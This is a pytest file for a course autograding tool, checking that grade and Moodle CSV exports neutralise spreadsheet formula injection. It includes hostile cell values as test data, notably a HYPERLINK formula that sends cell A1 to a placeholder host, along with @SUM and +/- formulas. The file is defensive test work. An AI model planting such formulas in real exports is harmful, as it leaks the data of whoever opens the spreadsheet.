"""CSV files the teacher opens in a spreadsheet (autograde/csv_cells.py): a cell that would start a
formula is neutralised with a leading ``'`` (OWASP's rule), numbers stay numbers, every cell is quoted,
in notes_moodle.csv (autograde/lms.py) and in nbgrader's grades.csv (our export plugin, also behind a
teacher's own ``nbgrader export``, and annotate_grades). Each file is read back with the csv module."""

import csv

import pytest
from conftest import REPO

from autograde.course import Course
from autograde.csv_cells import neutralise, write_table
from autograde.export import COLUMNS, QuotedCsvExportPlugin
from autograde.lms import write_moodle_csv
from autograde.pipeline import annotate_grades
from autograde.results import CellResult

TD = "td1_neurone_regression"
NB = "02_regression_lineaire"
# What a student may put in their name, email or id, and the cell a spreadsheet must get.
HOSTILE = {
    '=HYPERLINK("http://x.example/?"&A1,"clic")': '\'=HYPERLINK("http://x.example/?"&A1,"clic")',
    "+1": "'+1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "ligne 1\nligne 2": "ligne 1\nligne 2",
    "Dupont, Jean": "Dupont, Jean",
    'dit "Jo"': 'dit "Jo"',
    "Zoé": "Zoé",
    "'=déjà": "'=déjà",  # already neutral: not prefixed twice
}


@pytest.mark.parametrize(
    "value, cell",
    [
        *HOSTILE.items(),
        ("-1.5", "-1.5"),
        ("18", "18"),
        ("0", "0"),
        ("-3e-05", "-3e-05"),
        (-2.5, "-2.5"),
        (None, ""),
        ("", ""),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("=", "'="),
    ],
)
def test_neutralise(value, cell):
    assert neutralise(value) == cell


def test_a_table_reads_back_cell_for_cell_quoted(tmp_path):
    path = tmp_path / "t.csv"
    write_table(path, ["nom", "=note"], [{"nom": value, "=note": "-1.5"} for value in HOSTILE])
    with open(path, newline="", encoding="utf-8") as handle:
        read = list(csv.reader(handle))
    assert read == [["nom", "'=note"], *[[cell, "-1.5"] for cell in HOSTILE.values()]]
    text = path.read_bytes().decode("utf-8")
    assert text.startswith('"nom","\'=note"\r\n"') and '"-1.5"' in text, "every cell quoted"


@pytest.fixture
def course(tmp_path):
    return Course.init(tmp_path / "cours", REPO)


def add_class(course: Course) -> list[tuple[str, str, str, str]]:
    """Students whose names and emails are formulas, an assignment, a submission for one of them."""
    from nbgrader.api import Gradebook

    people = [
        ("ana", '=HYPERLINK("http://x","y")', "+33 6", "@ana.fr"),
        ("ben", "Dupont, Jean", 'dit "Jo"\nsuite', "-2+3@x.fr"),
    ]
    with Gradebook(course.db_url) as gradebook:
        gradebook.add_assignment(TD)
        for student, first, last, email in people:
            gradebook.add_student(student, first_name=first, last_name=last, email=email)
    return people


def test_the_export_plugin_quotes_and_neutralises_every_cell(course, tmp_path):
    from nbgrader.api import Gradebook

    people = add_class(course)
    destination = tmp_path / "grades.csv"
    with Gradebook(course.db_url) as gradebook:
        QuotedCsvExportPlugin(to=str(destination)).export(gradebook)
    with open(destination, newline="", encoding="utf-8") as handle:
        lines = list(csv.reader(handle))
    assert lines[0] == list(COLUMNS)
    got = [dict(zip(COLUMNS, line)) for line in lines[1:]]
    assert [
        (g["student_id"], g["first_name"], g["last_name"], g["email"], g["score"], g["max_score"]) for g in got
    ] == [
        ("ana", '\'=HYPERLINK("http://x","y")', "'+33 6", "'@ana.fr", "0.0", "0.0"),
        ("ben", "Dupont, Jean", 'dit "Jo"\nsuite', "'-2+3@x.fr", "0.0", "0.0"),
    ]
    assert len(people) == len(got)


@pytest.mark.slow
def test_a_teachers_own_nbgrader_export_uses_the_plugin(course):
    """`nbgrader export` in the course directory, as a teacher types it: the configuration's plugin."""
    add_class(course)
    course.nbgrader("export", "--to", "grades.csv")
    with open(course.root / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert rows["ana"]["first_name"] == '\'=HYPERLINK("http://x","y")'
    assert rows["ben"]["last_name"] == 'dit "Jo"\nsuite'
    assert (course.root / "grades.csv").read_text(encoding="utf-8").startswith('"assignment","duedate",')


def test_annotate_grades_keeps_the_cells_neutral_and_finds_each_student(course, tmp_path):
    from nbgrader.api import Gradebook

    add_class(course)
    grades = tmp_path / "grades.csv"
    with Gradebook(course.db_url) as gradebook:
        QuotedCsvExportPlugin(to=str(grades)).export(gradebook)
    rows = [
        CellResult("ana", NB, "test_loss", 2, 2, ""),
        CellResult("ana", NB, "reponse", 0.5, 1, "", manual=True),
        CellResult("ben", NB, "test_loss", 0, 2, "", verified=False),
    ]
    annotate_grades(grades, TD, rows)
    with open(grades, newline="", encoding="utf-8") as handle:
        got = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert (
        got["ana"]["first_name"],
        got["ana"]["auto_points"],
        got["ana"]["manual_points"],
        got["ana"]["verification"],
    ) == ('\'=HYPERLINK("http://x","y")', "2", "0.5", "vérifié")
    assert (got["ben"]["first_name"], got["ben"]["auto_points"], got["ben"]["verification"]) == (
        "Dupont, Jean",
        "0",
        "non vérifié",
    )
    assert grades.read_text(encoding="utf-8").count("\"'=HYPERLINK(") == 1, "quoted, prefixed once"


def test_the_moodle_csv_quotes_and_neutralises_every_cell(course):
    add_class(course)
    path = write_moodle_csv(course)
    with open(path, newline="", encoding="utf-8") as handle:
        lines = list(csv.reader(handle))
    assert lines[0][:4] == ["email", "id", "nom", "prénom"]
    assert [line[:4] for line in lines[1:]] == [
        ["'@ana.fr", "ana", "'+33 6", '\'=HYPERLINK("http://x","y")'],
        ["'-2+3@x.fr", "ben", 'dit "Jo"\nsuite', "Dupont, Jean"],
    ]
    assert path.read_text(encoding="utf-8").startswith('"email","id","nom","prénom"')
